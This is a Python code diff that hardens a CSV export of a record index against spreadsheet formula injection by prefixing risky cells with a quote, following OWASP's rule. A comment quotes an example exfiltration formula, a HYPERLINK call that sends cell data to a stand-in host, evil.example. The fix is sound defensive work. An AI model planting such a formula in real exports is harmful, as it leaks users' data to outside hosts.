@@ -58,14 +58,27 @@ CSV_COLUMNS = ("id", "track", "date", "name", "author", "headline_kind", "best_b
                "claimed_bpb", "worst_total_bytes", "size_cap_bytes", "status")
 
 
+# a spreadsheet runs a cell that starts with one of these as a formula (=HYPERLINK("http://evil.example/?"&A1))
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value) -> str:
+    """A value as a CSV cell no spreadsheet runs: text starting like a formula gets a leading ' (OWASP's rule)."""
+    if value is None:
+        return ""
+    if isinstance(value, float):
+        return f"{value:.8f}"
+    text = str(value)
+    return "'" + text if isinstance(value, str) and text.startswith(FORMULA_STARTS) else text
+
+
 def index_csv(index: RecordIndex) -> str:
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\n")
     writer.writerow(CSV_COLUMNS)
     for row in index.rows:
         values = row.model_dump()
-        writer.writerow(["" if values[col] is None else (f"{values[col]:.8f}" if isinstance(values[col], float)
-                                                         else values[col]) for col in CSV_COLUMNS])
+        writer.writerow([csv_cell(values[col]) for col in CSV_COLUMNS])
     return out.getvalue()
 
 
